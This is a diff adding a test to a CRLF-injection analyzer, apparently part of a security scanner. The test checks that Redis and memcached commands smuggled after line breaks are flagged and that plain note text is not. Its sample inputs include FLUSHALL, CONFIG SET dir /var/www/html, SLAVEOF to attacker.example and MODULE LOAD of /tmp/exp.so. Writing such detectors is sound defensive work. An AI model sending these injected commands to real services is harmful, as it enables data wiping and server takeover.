@@ -50,6 +50,17 @@ describe("crlf analyzer", () => {
     expect(maxStrength(crlfAnalyzer, body("Dear team\r\nQuit smoking\r\nDATA\r\n"))).toBeLessThanOrEqual(0.5);
   });
 
+  test("a key-value store's command after a break (Redis, memcached), and Redis's own framing anywhere", () => {
+    for (const v of ["x\r\nFLUSHALL\r\n", "key\r\nCONFIG SET dir /var/www/html\r\n", "x\nSLAVEOF attacker.example 6379", "x\r\nMODULE LOAD /tmp/exp.so", 'k\r\nEVAL "return 1" 0', "a\r\nset k 0 0 5\r\nhello", "\r\nflush_all", "\r\nKEYS *"]) {
+      expect([v, rules(crlfAnalyzer, leaf(v)), maxStrength(crlfAnalyzer, leaf(v))]).toEqual([v, ["crlf.store-command"], 0.85]);
+    }
+    expect(maxStrength(crlfAnalyzer, body("x\nSLAVEOF attacker.example 6379"))).toBe(0.85);
+    expect(maxStrength(crlfAnalyzer, leaf("*1\r\n$8\r\nFLUSHALL\r\n"))).toBe(0.9);
+    // A note's capitalised words after a greeting, and its sentences, are no command.
+    expect(maxStrength(crlfAnalyzer, body("Hello\nSAVE\nbye"))).toBeLessThan(0.7);
+    for (const v of ["Meeting notes\nSAVE the date\nINFO: room 5", "Dear Bob,\nSet the table please\nthanks", "todo:\nsave\nkeys"]) expect([v, crlfAnalyzer.analyze(body(v))]).toEqual([v, []]);
+  });
+
   test("a tagged IMAP command after text is proof when IMAP's own argument syntax follows it, not a note's words", () => {
     for (const v of ['INBOX\r\nA002 LIST "" *', "x\r\nA001 DELETE INBOX", "INBOX.Sent\r\nV100 CAPABILITY\r\nV101 FETCH 4791", "x\r\nb7 UID FETCH 1:* (FLAGS)", "x\r\nc1 STORE 4 +FLAGS (\\Deleted)", "x\r\na2 STATUS Sent (MESSAGES)"]) {
       expect([v, maxStrength(crlfAnalyzer, leaf(v))]).toEqual([v, 0.85]);
